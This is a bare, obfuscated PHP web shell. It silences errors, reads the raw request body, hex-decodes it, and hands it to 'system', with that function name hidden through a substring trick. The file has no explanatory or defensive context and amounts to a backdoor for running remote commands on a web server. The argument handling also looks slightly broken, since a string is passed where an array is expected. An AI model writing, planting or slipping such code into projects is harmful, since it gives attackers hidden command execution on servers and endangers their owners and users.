<?php
error_reporting(0);
set_time_limit(0);
$d = hex2bin(file_get_contents('php://input'));
call_user_func_array(substr('xxsystemyy', 2, 6), $d);
